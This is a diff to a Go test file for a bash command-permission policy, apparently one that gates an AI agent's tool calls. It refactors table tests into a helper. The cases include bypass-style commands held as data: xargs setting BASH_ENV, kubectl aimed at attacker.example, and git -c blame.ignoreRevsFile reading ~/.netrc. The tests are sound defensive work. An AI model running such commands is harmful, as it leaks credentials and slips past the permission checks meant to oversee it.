@@ -94,10 +94,7 @@ rules:
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, tt := range []struct {
-		cmd  string
-		want policy.Action
-	}{
+	wantActions(t, p, []bashCase{
 		{"echo x | xargs --process-slot-var=BASH_ENV bash -c ls", policy.Ask},
 		{"echo . | xargs -I Q --process-slot-var=HOME git status", policy.Ask},
 		{"echo x | xargs -n 1 wc -l", policy.Allow},
@@ -114,13 +111,7 @@ rules:
 		{"kubectl get pods -s https://attacker.example", policy.Ask},
 		{"KUBECONFIG=./kc.yaml kubectl get pods", policy.Ask},
 		{"kubectl get pods -n web", policy.Allow},
-	} {
-		args, _ := json.Marshal(map[string]string{"command": tt.cmd})
-		d := p.Evaluate(policy.Call{Tool: "bash", Arguments: args, Cwd: "/home/dev/proj"})
-		if d.Action != tt.want {
-			t.Errorf("%s: got %s (%s), want %s", tt.cmd, d.Action, d.Reason, tt.want)
-		}
-	}
+	})
 }
 
 // TestGitConfigKeysAreLetThroughByExactName: under the built-in policy, git
@@ -129,16 +120,25 @@ rules:
 // blame.ignoreRevsFile printed the first line of ~/.netrc).
 func TestGitConfigKeysAreLetThroughByExactName(t *testing.T) {
 	p := policy.Default()
-	for _, tt := range []struct {
-		cmd  string
-		want policy.Action
-	}{
+	wantActions(t, p, []bashCase{
 		{"git -c blame.ignoreRevsFile=/home/dev/.netrc blame README", policy.Ask},
 		{"git -c log.showSignature=true log -1", policy.Ask},
 		{"git -c blame.date=short blame README", policy.Allow},
 		{"git -c log.date=iso log -1", policy.Allow},
 		{"git -c color.ui=never log -1", policy.Allow},
-	} {
+	})
+}
+
+// bashCase is a bash command and the action a policy must give it.
+type bashCase struct {
+	cmd  string
+	want policy.Action
+}
+
+// wantActions evaluates each case as a bash call in /home/dev/proj.
+func wantActions(t *testing.T, p *policy.Policy, cases []bashCase) {
+	t.Helper()
+	for _, tt := range cases {
 		args, _ := json.Marshal(map[string]string{"command": tt.cmd})
 		d := p.Evaluate(policy.Call{Tool: "bash", Arguments: args, Cwd: "/home/dev/proj"})
 		if d.Action != tt.want {
